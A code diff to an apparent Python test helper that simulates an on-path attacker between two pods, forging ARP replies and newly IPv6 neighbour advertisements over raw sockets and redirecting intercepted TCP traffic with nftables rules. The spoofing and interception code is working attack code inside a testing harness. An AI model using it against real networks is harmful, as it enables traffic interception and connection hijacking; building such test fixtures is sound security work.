@@ -1,4 +1,4 @@
-"""An attacker between two pods: by forged ARP answers one sends him what is for the other, and he takes over connections."""
+"""An attacker between two pods: by forged ARP answers (IPv6: neighbour advertisements) one sends him what is for the other."""
 
 import contextlib
 import socket
@@ -10,6 +10,8 @@ from pods import wait_until
 
 _LISTEN_PORT = 6666
 _ETHERTYPE_ARP, _ARP_REPLY = 0x0806, 2
+_ETHERTYPE_IPV6, _ICMPV6, _ADVERTISEMENT, _OVERRIDE, _LINK_ADDRESS = 0x86dd, 58, 136, 0x20000000, 2
+_HOP_LIMIT = 255  # RFC 4861, 7.1.2: proves that a router has not sent it on
 
 
 def _mac(pod):
@@ -18,6 +20,30 @@ def _mac(pod):
 
 def _packed(mac):
     return bytes.fromhex(mac.replace(":", ""))
+
+
+def _checksum(data):
+    """RFC 1071."""
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+def _arp_reply(own, claimed, caller, caller_address):
+    return _ETHERTYPE_ARP, struct.pack("!HHBBH", 1, 0x0800, 6, 4, _ARP_REPLY) + own + socket.inet_aton(claimed) + caller \
+        + socket.inet_aton(caller_address)
+
+
+def _advertisement(own, claimed, caller_address):
+    """RFC 4861, 4.4."""
+    source, target = (socket.inet_pton(socket.AF_INET6, address) for address in (claimed, caller_address))
+    body = struct.pack("!I", _OVERRIDE) + source + struct.pack("!BB", _LINK_ADDRESS, 1) + own
+    size = 4 + len(body)
+    pseudo = source + target + struct.pack("!II", size, _ICMPV6)
+    checksum = _checksum(pseudo + struct.pack("!BBH", _ADVERTISEMENT, 0, 0) + body)
+    head = struct.pack("!IHBB", 6 << 28, size, _ICMPV6, _HOP_LIMIT) + source + target
+    return _ETHERTYPE_IPV6, head + struct.pack("!BBH", _ADVERTISEMENT, 0, checksum) + body
 
 
 class OnPath:
@@ -30,30 +56,34 @@ class OnPath:
         self._pod = pod
         self._caller = caller
         self._address = address
-        self._rules = [f"ip daddr {address} tcp dport {port} redirect to :{_LISTEN_PORT}", *rules]
-        self._server = actors.Server(pod.listen(port=_LISTEN_PORT), behave)
+        self._family = socket.AF_INET6 if ":" in address else socket.AF_INET
+        self._table = "ip6" if ":" in address else "ip"
+        self._rules = [f"{self._table} daddr {address} tcp dport {port} redirect to :{_LISTEN_PORT}", *rules]
+        self._server = actors.Server(pod.listen(self._family, _LISTEN_PORT), behave)
 
     def __enter__(self):
         self._server.__enter__()
-        self._pod.run(["nft", "-f", "-"], stdin="table ip onpath { chain taken {\ntype nat hook prerouting priority -100\n"
+        self._pod.run(["nft", "-f", "-"], stdin=f"table {self._table} onpath {{ chain taken {{\ntype nat hook prerouting priority -100\n"
                       + "\n".join(self._rules) + "\n}\n}\n")
         self._lie()
         return self
 
     def __exit__(self, *_):
-        self._pod.run(["nft", "delete", "table", "ip", "onpath"])
+        self._pod.run(["nft", "delete", "table", self._table, "onpath"])
         self._caller.run(["ip", "neigh", "flush", "dev", "eth0"])
         self._server.__exit__()
 
     def _lie(self):
         """Tells the caller that the address is the attacker's, until it is believed."""
         own, caller = _mac(self._pod), _mac(self._caller)
-        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, _ARP_REPLY) + _packed(own) + socket.inet_aton(self._address) \
-            + _packed(caller) + socket.inet_aton(self._caller.ipv4)
-        frame = _packed(caller) + _packed(own) + struct.pack("!H", _ETHERTYPE_ARP) + arp
+        if self._family == socket.AF_INET:
+            kind, lie = _arp_reply(_packed(own), self._address, _packed(caller), self._caller.ipv4)
+        else:
+            kind, lie = _advertisement(_packed(own), self._address, self._caller.ipv6)
+        frame = _packed(caller) + _packed(own) + struct.pack("!H", kind) + lie
 
         def believed():
-            with self._caller.open_socket(kind=socket.SOCK_DGRAM) as asks:
+            with self._caller.open_socket(self._family, socket.SOCK_DGRAM) as asks:
                 asks.sendto(b"", (self._address, 9))  # so that it has an opinion that can be changed
             wire.send(frame)
             return own in self._caller.run(["ip", "neigh", "show", self._address]).stdout
@@ -61,7 +91,7 @@ class OnPath:
         with self._pod.entered():
             wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
         with wire:
-            wire.bind(("eth0", _ETHERTYPE_ARP))
+            wire.bind(("eth0", kind))
             wait_until(believed, f"{self._caller.name} to believe the attacker")
 
 
